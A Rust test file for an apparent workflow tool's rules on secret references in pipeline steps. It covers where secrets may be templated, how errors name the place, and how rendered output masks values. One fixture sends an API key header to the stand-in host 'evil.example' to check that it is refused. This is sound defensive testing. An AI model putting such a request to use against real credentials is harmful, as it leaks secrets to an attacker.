//! Secrets in definitions and in what is rendered of them, sentence by sentence of SPEC sections 4 and 8.

use ordinaut_schema::{
    action::{Catalogue, Grants, Offered},
    fault::{Fault, FaultCode},
    limits::Limits,
    secret::mark,
    task::{Acceptance, accept},
    template::{Scope, render, render_request},
};
use serde_json::{Value, json};

fn catalogue(grants: Grants) -> Catalogue {
    let secrets = [("API_KEY", "api.example.com"), ("API_USER", "*.example.com")]
        .map(|(name, host)| (name.to_owned(), vec![host.to_owned()]));
    Catalogue { offered: Offered { secrets: secrets.into(), ..Offered::default() }, grants, ..Catalogue::default() }
}

fn judged(step: Value, grants: Grants) -> Vec<Fault> {
    let definition = json!({
        "title": "t", "schedule_kind": "manual", "params": { "user": "me" },
        "pipeline": [{ "id": "before", "uses": "inbox.post", "with": { "text": "x" } }, step],
    });
    let against = Acceptance {
        now: "2026-11-23T06:30:00Z".parse().unwrap(),
        default_zone: None,
        catalogue: &catalogue(grants),
        limits: &Limits::DEFAULT,
    };
    accept(&definition, against).err().map(|faults| faults.as_slice().to_vec()).unwrap_or_default()
}

fn post(with: Value) -> Value {
    let mut with = with;
    with["url"] = json!("https://api.example.com/v1");
    json!({ "uses": "http.post", "with": with })
}

fn get(headers: Value) -> Value {
    json!({ "uses": "http.get", "with": { "url": "https://api.example.com/v1", "headers": headers } })
}

#[test]
fn a_secret_may_stand_alone_concatenated_and_in_basic_auth_in_headers_query_and_body() {
    for step in [
        get(json!({ "X-Key": "${secrets.API_KEY}" })),
        get(json!({ "Authorization": "Bearer ${secrets.API_KEY}" })),
        get(json!({ "Authorization": "${basic_auth(secrets.API_USER, secrets.API_KEY)}" })),
        get(json!({ "Authorization": "${basic_auth(params.user, secrets.API_KEY)}" })),
        get(json!({ "Authorization": "${basic_auth('me', secrets.API_KEY)}" })),
        post(json!({ "query": { "key": "${secrets.API_KEY}", "keys": ["${secrets.API_KEY}"] } })),
        post(json!({ "json": { "deep": [{ "key": "${secrets.API_KEY}" }] } })),
        post(json!({ "json": "${secrets.API_KEY}" })),
        post(json!({ "form": { "key": "${secrets.API_KEY}" } })),
        post(json!({ "body": "key=${secrets.API_KEY}" })),
    ] {
        assert_eq!(judged(step.clone(), Grants::local()), [], "{step}");
    }
}

#[test]
fn a_secret_is_refused_everywhere_else_with_the_place_and_what_to_do() {
    for (step, path) in [
        (json!({ "uses": "inbox.post", "with": { "text": "${secrets.API_KEY}" } }), "with.text"),
        (json!({ "uses": "http.get", "with": { "url": "https://api.example.com/${secrets.API_KEY}" } }), "with.url"),
        (json!({ "uses": "http.get", "if": "secrets.API_KEY", "with": { "url": "https://api.example.com" } }), "if"),
        (json!({ "uses": "inbox.post", "foreach": "[secrets.API_KEY]", "with": { "text": "x" } }), "foreach"),
        (json!({ "uses": "data.transform", "with": { "expr": "secrets.API_KEY" } }), "with.expr"),
        (json!({ "uses": "data.transform", "with": { "input": "${secrets.API_KEY}", "expr": "@" } }), "with.input"),
        (json!({ "uses": "data.transform", "with": { "input": {}, "expr": "basic_auth(a, b)" } }), "with.expr"),
        (
            json!({ "uses": "event.publish", "with": { "topic": "a.b", "payload": "${secrets.API_KEY}" } }),
            "with.payload",
        ),
        (get(json!("${secrets.API_KEY}")), "with.headers"),
        (get(json!({ "a": "${upper(secrets.API_KEY)}" })), "with.headers.a"),
        (get(json!({ "a": "${secrets.API_KEY == 'x'}" })), "with.headers.a"),
        (get(json!({ "a": "${secrets.API_KEY || 'x'}" })), "with.headers.a"),
        (get(json!({ "a": "${secrets}" })), "with.headers.a"),
        (get(json!({ "a": "${secrets.API_KEY.x}" })), "with.headers.a"),
        (get(json!({ "a": "${$.secrets.API_KEY}" })), "with.headers.a"),
        (get(json!({ "a": "${[secrets.API_KEY]}" })), "with.headers.a"),
        (get(json!({ "a": "${lower(basic_auth('me', secrets.API_KEY))}" })), "with.headers.a"),
        (get(json!({ "a": "${basic_auth('me', basic_auth('a', 'b'))}" })), "with.headers.a"),
        (get(json!({ "a": "${basic_auth(upper(secrets.API_KEY), 'b')}" })), "with.headers.a"),
    ] {
        let faults = judged(step.clone(), Grants::local());
        let fault = faults.first().unwrap_or_else(|| panic!("accepted: {step}"));
        assert_eq!(
            (fault.path.as_str(), fault.code),
            (&*format!("$.pipeline[1].{path}"), FaultCode::BadTemplate),
            "{step}"
        );
        assert!(fault.message.contains("${secrets.NAME}"), "{fault}");
    }
}

#[test]
fn an_unknown_secret_is_refused_with_what_exists_and_the_command() {
    let fault = &judged(get(json!({ "a": "${secrets.API_KEZ}" })), Grants::local())[0];
    assert_eq!((fault.code, fault.suggestion.as_deref()), (FaultCode::NotConfigured, Some("secrets.API_KEY")));
    for part in ["API_KEY, API_USER", "ordinaut secret set API_KEZ --host api.example.com"] {
        assert!(fault.message.contains(part), "{fault}");
    }
}

#[test]
fn a_secret_that_is_not_granted_or_bound_elsewhere_is_refused() {
    let step = get(json!({ "a": "${secrets.API_KEY}" }));
    assert_eq!(judged(step.clone(), Grants::default())[0].code, FaultCode::NotGranted);
    let granted = Grants { secrets: vec!["API_KEY".to_owned()], ..Grants::default() };
    assert_eq!(judged(step, granted), []);

    let elsewhere = json!({
        "uses": "http.get",
        "with": { "url": "https://evil.example/", "headers": { "a": "${secrets.API_KEY}" } },
    });
    let fault = &judged(elsewhere, Grants::local())[0];
    assert_eq!(fault.code, FaultCode::NotGranted);
    assert!(fault.message.contains("api.example.com") && fault.message.contains("evil.example"), "{fault}");
    let later = json!({
        "uses": "http.get",
        "with": { "url": "https://${params.user}/", "headers": { "a": "${secrets.API_KEY}" } },
    });
    assert_eq!(judged(later, Grants::local()), [], "a template decides at the call");
}

#[test]
fn a_rendered_input_names_the_secret_and_never_holds_its_value() {
    let with = json!({ "url": "u", "headers": { "a": "Bearer ${secrets.API_KEY}", "b": "${basic_auth(params.user, secrets.API_KEY)}" } });
    let scope = Scope { params: json!({ "user": "me" }), ..Scope::default() };
    let input = render_request(&with, &scope).unwrap();
    assert_eq!(mark::names(&input), ["API_KEY".to_owned()].into());
    assert_eq!(
        mark::shown(input),
        json!({ "url": "u", "headers": { "a": "Bearer [secret API_KEY]", "b": "basic_auth(me, [secret API_KEY])" } })
    );
}

/// Whatever a step, an event or `params` holds, in texts, keys and numbers of templates: none of it is a secret.
#[test]
fn what_merely_looks_like_a_secret_or_a_mark_is_none() {
    let mark = mark::secret("API_KEY");
    let scope = Scope {
        params: json!({ "text": format!("${{secrets.API_KEY}} {mark}"), "deep": { mark.clone(): [mark.clone()] } }),
        event: json!({ "payload": mark::basic("me", &mark) }),
        ..Scope::default()
    };
    let with = json!({
        "headers": { "a": "${params.text}", "b": "x ${params.text}", "c": "${event.payload}", mark.clone(): mark },
        "json": { "d": "${params.deep}", "e": "x ${params.deep}", "f": "${basic_auth(params.text, event.payload)}" },
        "url": "${params.text}",
    });
    let input = render_request(&with, &scope).unwrap();
    assert_eq!(mark::names(&input), [].into(), "{input}");
    assert_eq!(input["headers"]["a"], json!("${secrets.API_KEY} API_KEY"));
    assert_eq!(mark::names(&render(&with["headers"], &scope).unwrap()), [].into());
}

#[test]
fn a_secret_named_outside_a_request_is_a_template_error() {
    let failure = render(&json!("${secrets.API_KEY}"), &Scope::default()).unwrap_err();
    assert!(failure.message.contains("may stand only"), "{}", failure.message);
    assert!(render_request(&json!({ "url": "${secrets.API_KEY}" }), &Scope::default()).is_err());
}
